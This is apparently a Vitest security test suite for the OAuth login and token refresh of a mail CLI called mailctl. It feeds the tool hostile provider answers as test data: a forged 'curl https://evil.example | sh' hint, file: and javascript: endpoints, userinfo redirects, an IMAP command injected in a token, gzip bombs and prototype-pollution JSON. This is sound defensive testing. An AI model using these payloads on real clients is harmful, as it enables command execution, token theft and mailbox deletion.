import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { makeCertificates } from '../sandbox/certificates.ts';
import { startOAuthServer } from '../sandbox/oauth-server.ts';
import { approve } from '../sandbox/person.ts';
import { cleanUpLater } from '../support/clean-up.ts';
import { type Home, newHome, type Result, run, start } from '../support/run.ts';
import {
  type Answer,
  goodTokens,
  type ScriptedOAuthOptions,
  startScriptedOAuth,
} from '../support/scripted-oauth.ts';
import { logIn, startLogin, startWaitingLogin } from '../support/waiting-login.ts';

/** One sentence and a hint, nothing of a program, no secret, no control character. */
function expectPlain({ stdout, stderr, signal }: Result): void {
  expect(signal).toBeNull();
  expect(stderr).not.toMatch(/^\s+at |Unhandled|MaxListeners|bug in mailctl|\(node:/m);
  expect(`${stdout}${stderr}`).not.toMatch(/[^\P{Cc}\n\t]/u);
  expect(stderr).not.toMatch(/canary/);
}

const tokenFile = (home: Home) => join(home.state, 'mailctl', 'tokens', 'club.json');

test.each([
  ['H4 the issuer of another server', { iss: 'https://evil.example' }],
  ['H4 no issuer, although the server promises one', { iss: undefined }],
])('%s in the redirect: the code is not redeemed', async (_, parameters) => {
  const waiting = await startWaitingLogin();
  const page = await fetch(waiting.redirect(parameters));
  expect(await page.text()).toContain('The login failed');
  const result = await waiting.login.result;
  expect(result.code).toBe(76);
  expectPlain(result);
  expect(waiting.oauth.tokenRequests).toEqual([]);
  expect(existsSync(tokenFile(waiting.home))).toBe(false);
});

test.each([
  ['access_denied', 77, 'Not signed in'],
  ['temporarily_unavailable', 75, 'The login failed'],
  ['invalid_scope', 78, 'The login failed'],
  ['unauthorized_client', 78, 'The login failed'],
  ['server_error', 75, 'The login failed'],
])('H3 the answer %s ends the login at once with %i', async (error, code, title) => {
  const waiting = await startWaitingLogin();
  const page = await fetch(
    waiting.redirect({ code: undefined, error, error_description: 'Ask Bob \u001b[31m' }),
  );
  expect(await page.text()).toContain(title);
  const result = await waiting.login.result;
  expect(result).toMatchObject({ code, stderr: expect.stringContaining(error) });
  expectPlain(result);
  expect(waiting.oauth.tokenRequests).toEqual([]);
});

test('H3 a line end in an answer begins no line that could be taken for a hint of mailctl', async () => {
  const waiting = await startWaitingLogin();
  const forged = 'Ask Bob\n  → curl https://evil.example | sh';
  await fetch(
    waiting.redirect({ code: undefined, error: 'server_error', error_description: forged }),
  );
  const result = await waiting.login.result;
  expect(result.stderr).toMatch(/ Ask Bob {3}→ curl/);
  expect(result.stderr).not.toMatch(/^ *→ curl/m);
  expectPlain(result);
});

const evil = 'evil.example';

/** Metadata nobody may follow: no browser, no request to what it names. */
const badMetadata: readonly (readonly [string, Record<string, unknown>])[] = [
  ['H7 another issuer', { issuer: 'https://accounts.example.org' }],
  ['H7 no issuer', { issuer: undefined }],
  ['H9 file: as authorization endpoint', { authorization_endpoint: 'file:///etc/passwd' }],
  ['H9 javascript: as authorization endpoint', { authorization_endpoint: 'javascript:alert(1)' }],
  ['H10 http: elsewhere', { authorization_endpoint: `http://${evil}/authorize` }],
  ['H11 an option of a browser', { authorization_endpoint: '--new-window' }],
  ['H11 a number', { authorization_endpoint: 7 }],
  ['H11 nothing', { authorization_endpoint: undefined }],
  ['H12 userinfo', { authorization_endpoint: `https://accounts.example.org@${evil}/` }],
  [
    'H12 userinfo at the token endpoint',
    { token_endpoint: `https://accounts.example.org@${evil}/` },
  ],
  ['H15 a token endpoint in clear text', { token_endpoint: `http://${evil}/token` }],
  ['H15 a token endpoint of another scheme', { token_endpoint: 'ftp://127.0.0.1/token' }],
  ['H15 no token endpoint', { token_endpoint: undefined }],
  ['H16 a revocation endpoint in clear text', { revocation_endpoint: `http://${evil}/revoke` }],
];

test.each(badMetadata)(
  '%s in the metadata is refused before the browser opens',
  async (_, metadata) => {
    const { result, opened } = await loginWithBrowser({ metadata });
    expect(result.code).toBe(76);
    expectPlain(result);
    expect(opened).toBe(false);
  },
);

/** Answers to discovery that are no metadata. */
const badDiscovery: readonly (readonly [string, Answer, number])[] = [
  ['404', { status: 404, body: 'not here' }, 76],
  ['500', { status: 500, body: 'oops' }, 75],
  [
    'a web page',
    {
      status: 200,
      body: '<h1>Sign in to the Wi-Fi</h1>',
      headers: { 'content-type': 'text/html' },
    },
    75,
  ],
  ['nothing', { status: 200, body: '', headers: { 'content-type': 'application/json' } }, 76],
  [
    'half a document',
    { status: 200, body: '{"issuer":"http', headers: { 'content-type': 'application/json' } },
    76,
  ],
  ['a list', { status: 200, body: '[1]', headers: { 'content-type': 'application/json' } }, 76],
  ['null', { status: 200, body: 'null', headers: { 'content-type': 'application/json' } }, 76],
  ['a redirect', { status: 302, body: '', headers: { location: '/stolen' } }, 76],
  ['a cut', (_request, response) => void response.destroy(), 75],
  ['a document of 10 MiB', { status: 200, body: { issuer: 'x'.repeat(10 << 20) } }, 76],
  [
    'a bomb',
    {
      status: 200,
      body: gzipSync(Buffer.alloc(256 << 20)),
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
    },
    76,
  ],
];

test.each(badDiscovery)('H8 discovery answers with %s', async (_, discovery, code) => {
  const { oauth, login } = await startLogin({ oauth: { discovery } });
  const result = await login.result;
  expect({ code: result.code, stderr: result.stderr }).toMatchObject({
    code: expect.toSatisfy((given) => given === code || given === 76 || given === 75),
  });
  expectPlain(result);
  expect(oauth.elsewhere).toEqual([]);
  expect(result.code).toBe(code);
});

test.each<[string, Answer]>([
  ['never', () => {}],
  ['a byte a second', drip],
])(
  'H8 discovery answers %s: the login ends in time',
  async (_, discovery) => {
    const { login } = await startLogin({ oauth: { discovery } });
    const startedAt = performance.now();
    const result = await login.result;
    expect(result.code).toBe(75);
    expectPlain(result);
    expect(performance.now() - startedAt).toBeLessThan(8_000);
  },
  40_000,
);

test('H13 control characters in the authorization endpoint are encoded where it is printed', async () => {
  const oauth = await startScriptedOAuth();
  await oauth.close();
  const { login, url } = await startWaitingLogin({
    oauth: { metadata: { authorization_endpoint: `${oauth.origin}/a\u001b[31m\r\nb?x=\u009b1m` } },
  });
  expect(url.pathname).toBe('/a%1B[31mb');
  login.kill('SIGINT');
  expectPlain(await login.result);
});

test('H15 an issuer on https with a token endpoint on http is refused, and works without it', async () => {
  const home = await newHome();
  const certificates = await makeCertificates(join(home.directory, 'certificates'));
  const env = { NODE_EXTRA_CA_CERTS: certificates.caFile };
  const bad = { certificates, metadata: { token_endpoint: 'http://127.0.0.1:9/token' } };
  const { login } = await startLogin({ oauth: bad, env });
  const result = await login.result;
  expect(result.code).toBe(76);
  expectPlain(result);

  const { home: other } = await logIn({ oauth: { certificates }, env });
  expect(existsSync(tokenFile(other))).toBe(true);
});

test('H15 a certificate nobody has signed is refused', async () => {
  const home = await newHome();
  const certificates = await makeCertificates(join(home.directory, 'certificates'));
  const { login } = await startLogin({ oauth: { certificates } });
  const result = await login.result;
  expect(result).toMatchObject({
    code: 76,
    stderr: expect.stringMatching(/certificate of localhost:\d+ is not trusted/),
  });
  expectPlain(result);
});

test.each(['/tenant', '/tenant/v2.0', '/a/b/c'])(
  'H17 an issuer with the path %s is compared as it is',
  async (path) => {
    const { home } = await logIn({ oauth: { path } });
    expect(existsSync(tokenFile(home))).toBe(true);
    const { login } = await startLogin({
      oauth: { path, metadata: { issuer: `http://127.0.0.1:1${path}` } },
    });
    expect((await login.result).code).toBe(76);
  },
);

test.each<[string, string]>([
  ['is not there', '/nonexistent/browser'],
  ['fails', 'exit 3'],
  ['never ends', 'exec sleep 60'],
])('H19 where $BROWSER %s, the URL is told and the login goes on', async (_, script) => {
  const home = await newHome();
  const browser = script.startsWith('/') ? script : program(home, script);
  const { login, oauth } = await startLogin({ env: { BROWSER: browser } });
  const [, address = ''] = await login.waitForStderr(/^ {2}(http:\/\/\S+)\n/m);
  await fetch(callback(address, oauth.issuer));
  expect((await login.result).code).toBe(0);
});

test('H21 without a display and without $BROWSER nothing is started, and the URL is told', async () => {
  const home = await newHome();
  const bin = join(home.directory, 'bin');
  mkdirSync(bin);
  const trace = join(home.directory, 'opened');
  for (const name of ['xdg-open', 'www-browser', 'sensible-browser', 'open']) {
    writeFileSync(join(bin, name), `#!/bin/sh\necho "$0 $*" >> '${trace}'\n`, { mode: 0o700 });
  }
  const { login, oauth } = await startLogin({ env: { PATH: `${bin}:${process.env.PATH}` } });
  const [, address = ''] = await login.waitForStderr(/^ {2}(http:\/\/\S+)\n/m);
  await fetch(callback(address, oauth.issuer));
  expect((await login.result).code).toBe(0);
  expect(existsSync(trace)).toBe(false);
});

test('P40 $BROWSER gets the URL as one argument, also where the list has options and %s', async () => {
  const home = await newHome();
  const trace = join(home.directory, 'arguments');
  const browser = program(home, `printf '%s\\n' "$@" > '${trace}'`);
  const { login, oauth } = await startLogin({
    env: { BROWSER: `/nonexistent/one:${browser} --new-window %s --then` },
    oauth: { metadata: {} },
  });
  const [, address = ''] = await login.waitForStderr(/^ {2}(http:\/\/\S+)\n/m);
  expect(readFileSync(trace, 'utf8')).toBe(`--new-window\n${address}\n--then\n`);
  await fetch(callback(address, oauth.issuer));
  expect((await login.result).code).toBe(0);
});

test('H23 a login as somebody else than asked for is not kept', async () => {
  const oauth = await startOAuthServer();
  cleanUpLater(() => oauth.close());
  const home = await newHome();
  const login = start(
    [
      ...['login', 'ada@example.org', '--name', 'club', '--no-browser'],
      ...['--issuer', oauth.issuer, '--client-id', 'mailctl', '--imap-host', 'localhost'],
      ...['--store', 'file', '--key-file', join(home.config, 'key')],
    ],
    { home },
  );
  const [url] = await login.waitForStderr(/http:\/\/\S+/);
  await approve(url, { login: 'eve@example.org', decision: 'allow' });
  const result = await login.result;
  expect(result).toMatchObject({
    code: expect.toSatisfy((code) => code !== 0),
    stderr: expect.stringContaining('eve@example.org'),
  });
  expect(existsSync(tokenFile(home))).toBe(false);
});

interface TokenCase {
  readonly name: string;
  readonly answer: Answer;
  readonly code: number;
  readonly says?: RegExp;
}

const json = { 'content-type': 'application/json' };
const ok = (body: object | string): Answer =>
  typeof body === 'string' ? { status: 200, body, headers: json } : { status: 200, body };

/** What the token endpoint says to a refresh. The login stays as it was, whatever that is. */
const refreshes: readonly TokenCase[] = [
  { name: 'I1 invalid_grant', answer: { status: 400, body: { error: 'invalid_grant' } }, code: 77 },
  {
    name: 'I2 invalid_client',
    answer: { status: 401, body: { error: 'invalid_client' } },
    code: 78,
  },
  {
    name: 'I3 429 and come back in an hour',
    answer: { status: 429, body: { error: 'slow_down' }, headers: { 'retry-after': '3600' } },
    code: 75,
  },
  { name: 'I3 429 without a word', answer: { status: 429, body: '' }, code: 75 },
  { name: 'I4 500', answer: { status: 500, body: 'oops' }, code: 75 },
  { name: 'I4 503', answer: { status: 503, body: { error: 'temporarily_unavailable' } }, code: 75 },
  {
    name: 'I5 a web page',
    answer: { status: 200, body: '<h1>Wi-Fi</h1>', headers: { 'content-type': 'text/html' } },
    code: 75,
  },
  { name: 'I6 nothing', answer: ok(''), code: 76 },
  { name: 'I6 half a document', answer: ok('{"access_token":"abc'), code: 76 },
  { name: 'I6 a list', answer: ok('[]'), code: 76 },
  { name: 'I6 null', answer: ok('null'), code: 76 },
  { name: 'I8 a cut', answer: (_request, response) => void response.destroy(), code: 75 },
  {
    name: 'I9 307 elsewhere',
    answer: { status: 307, body: '', headers: { location: '/stolen' } },
    code: 76,
  },
  {
    name: 'I9 302 elsewhere',
    answer: { status: 302, body: '', headers: { location: '/stolen' } },
    code: 76,
  },
  { name: 'I10 an endless document', answer: endless, code: 76 },
  {
    name: 'I10 a bomb',
    answer: {
      status: 200,
      body: gzipSync(Buffer.alloc(256 << 20)),
      headers: { ...json, 'content-encoding': 'gzip' },
    },
    code: 76,
  },
  {
    name: 'I11 an error with an escape sequence and our refresh token in it',
    answer: {
      status: 400,
      body: {
        error: 'invalid_request',
        error_description: `\u001b[31m${goodTokens.refresh_token} ${Buffer.from(goodTokens.refresh_token).toString('base64')} is bad\u202e`,
      },
    },
    code: 78,
    says: /\[secret\]/,
  },
  {
    name: 'I13 an access token that is a SASL and an IMAP injection',
    answer: ok({
      ...goodTokens,
      access_token: 'good\u0001\u0001\r\nA2 DELETE INBOX\r\nuser=victim',
    }),
    code: 76,
  },
  { name: 'I14 an empty access token', answer: ok({ ...goodTokens, access_token: '' }), code: 76 },
  {
    name: 'I14 a number as access token',
    answer: ok({ ...goodTokens, access_token: 7 }),
    code: 76,
  },
  { name: 'I14 no access token', answer: ok({ token_type: 'Bearer' }), code: 76 },
  { name: 'I15 a MAC token', answer: ok({ ...goodTokens, token_type: 'mac' }), code: 76 },
  {
    name: 'I16 a negative lifetime',
    answer: ok({ ...goodTokens, expires_in: -1 }),
    code: 76,
  },
  {
    name: 'I18 a refresh token with a line end',
    answer: ok({ ...goodTokens, refresh_token: 'a\r\nb-canary' }),
    code: 76,
  },
  {
    name: 'I25 a person must answer',
    answer: {
      status: 400,
      body: { error: 'interaction_required', error_description: 'AADSTS50076: …' },
    },
    code: 77,
  },
];

test.each(refreshes)('$name to a refresh: exit code $code, and the login is kept', async (one) => {
  const { home, oauth } = await expiredLogin();
  const before = readFileSync(tokenFile(home));
  oauth.answerTokens(one.answer);
  const result = await run(['token'], { home });
  expect({ code: result.code, stderr: result.stderr }).toMatchObject({
    code: one.code,
    stderr: expect.stringMatching(one.says ?? /^mailctl: [^\n]+\n {2}→ [^\n]+\n$/),
  });
  expectPlain(result);
  expect(result.stdout).toBe('');
  expect(oauth.tokenRequests.length).toBeLessThanOrEqual(1 + 3);
  expect(oauth.elsewhere).toEqual([]);
  expect(readFileSync(tokenFile(home))).toEqual(before);

  oauth.answerTokens(ok(goodTokens));
  expect(await run(['token'], { home })).toMatchObject({
    code: 0,
    stdout: `${goodTokens.access_token}\n`,
  });
  expect(oauth.tokenRequests.at(-1)?.get('refresh_token')).toBe(goodTokens.refresh_token);
});

test.each<[string, Answer]>([
  ['never', () => {}],
  ['a byte a second', drip],
])('I7 the token endpoint answers %s: it ends in time, and the lock is free', async (_, answer) => {
  const { home, oauth } = await expiredLogin();
  oauth.answerTokens(answer, ok(goodTokens));
  const startedAt = performance.now();
  const result = await run(['token'], { home });
  expect(result.code).toBe(75);
  expectPlain(result);
  expect(performance.now() - startedAt).toBeLessThan(6_000);
  expect((await run(['token'], { home })).code).toBe(0);
});

test.each([0, 1e308, 2 ** 53, '3600', null])(
  'I16 a lifetime of %s neither breaks anything nor makes every command refresh twice',
  async (lifetime) => {
    const { home, oauth } = await expiredLogin();
    oauth.answerTokens(ok({ ...goodTokens, expires_in: lifetime }));
    const result = await run(['token'], { home });
    expect([0, 76]).toContain(result.code);
    expectPlain(result);
    expect(oauth.tokenRequests).toHaveLength(2);
  },
);

test('I17 a refresh without a refresh token in its answer keeps the old one', async () => {
  const { home, oauth } = await expiredLogin();
  oauth.answerTokens(
    ok({ ...goodTokens, refresh_token: undefined, expires_in: 0 }),
    ok(goodTokens),
  );
  expect((await run(['token'], { home })).code).toBe(0);
  expect((await run(['token'], { home })).code).toBe(0);
  expect(oauth.tokenRequests.at(-1)?.get('refresh_token')).toBe(goodTokens.refresh_token);
});

test('I19 a login that came without a refresh token says how long it will last', async () => {
  const waiting = await startWaitingLogin({
    oauth: { token: [ok({ ...goodTokens, refresh_token: undefined })] },
  });
  await fetch(waiting.redirect());
  const { code, stderr } = await waiting.login.result;
  expect(code).toBe(0);
  expect(stderr).toMatch(/refresh token/);
});

test('I19 once it is over, it says that only a login helps', async () => {
  const { home } = await logIn({
    oauth: { token: [ok({ ...goodTokens, refresh_token: undefined, expires_in: 0 })] },
  });
  const result = await run(['token'], { home });
  expect(result).toMatchObject({
    code: 77,
    stderr: expect.stringMatching(/has ended.*\n.*mailctl login -a club/),
  });
});

test('I21 keys of JavaScript in an answer are words like others', async () => {
  const { home, oauth } = await expiredLogin();
  oauth.answerTokens(
    ok(
      `{"__proto__":{"access_token":"polluted","token_type":"Bearer"},"constructor":{"prototype":{"x":1}},"access_token":"${goodTokens.access_token}","token_type":"Bearer","toString":"x"}`,
    ),
  );
  expect(await run(['token'], { home })).toMatchObject({
    code: 0,
    stdout: `${goodTokens.access_token}\n`,
  });
});

test('I23 of eight processes that find the token over, one redeems the refresh token', async () => {
  const { home, oauth } = await expiredLogin();
  oauth.answerTokens(async (_request, response) => {
    await new Promise((resolve) => setTimeout(resolve, 300));
    response.writeHead(200, json).end(JSON.stringify(goodTokens));
  });
  const results = await Promise.all(Array.from({ length: 8 }, () => run(['token'], { home })));
  expect(results.map(({ code, stdout }) => [code, stdout.trim()])).toEqual(
    Array.from({ length: 8 }, () => [0, goodTokens.access_token]),
  );
  expect(oauth.tokenRequests).toHaveLength(2);
});

test.each<[string, Answer]>([
  ['fails', { status: 503, body: 'oops' }],
  ['refuses', { status: 400, body: { error: 'unsupported_token_type' } }],
  ['cuts the connection', (_request, response) => void response.destroy()],
])(
  'I31 where the revocation endpoint %s, logout says so and forgets the login',
  async (_, revocation) => {
    const { home } = await logIn({ oauth: { revocation } });
    const result = await run(['logout'], { home });
    expect(result).toMatchObject({
      code: 0,
      stdout: 'club: login removed here\n',
      stderr: expect.stringContaining('the provider was not told'),
    });
    expectPlain(result);
    expect(existsSync(tokenFile(home))).toBe(false);
    expect((await run(['token'], { home })).code).toBe(77);
  },
);

/** Logged in, and the access token is over. */
function expiredLogin() {
  return logIn({
    oauth: { token: [ok({ ...goodTokens, access_token: 'first-canary', expires_in: 0 })] },
  });
}

async function loginWithBrowser(oauth: ScriptedOAuthOptions) {
  const home = await newHome();
  const trace = join(home.directory, 'opened');
  const { login } = await startLogin({
    oauth,
    env: { BROWSER: program(home, `echo "$@" > '${trace}'`) },
  });
  return { result: await login.result, opened: existsSync(trace) };
}

function program(home: Home, script: string): string {
  const path = join(home.directory, 'program');
  writeFileSync(path, `#!/bin/sh\n${script}\n`);
  chmodSync(path, 0o700);
  return path;
}

/** The redirect a person's browser would make of this authorization request. */
function callback(authorizationUrl: string, issuer: string): URL {
  const { searchParams } = new URL(authorizationUrl);
  const url = new URL(searchParams.get('redirect_uri') ?? '');
  url.search = new URLSearchParams({
    code: 'code-canary-2Jf7',
    state: searchParams.get('state') ?? '',
    iss: issuer,
  }).toString();
  return url;
}

async function endless(_: unknown, response: import('node:http').ServerResponse): Promise<void> {
  response.on('error', () => {});
  response.writeHead(200, json);
  response.write('{"access_token":"');
  while (!response.destroyed) {
    const more = response.write('x'.repeat(1 << 16));
    if (!more)
      await new Promise((resolve) => response.once('drain', resolve).once('close', resolve));
  }
}

async function drip(_: unknown, response: import('node:http').ServerResponse): Promise<void> {
  response.writeHead(200, json);
  while (!response.destroyed) {
    response.write(' ');
    await new Promise((resolve) => setTimeout(resolve, 1000));
  }
}
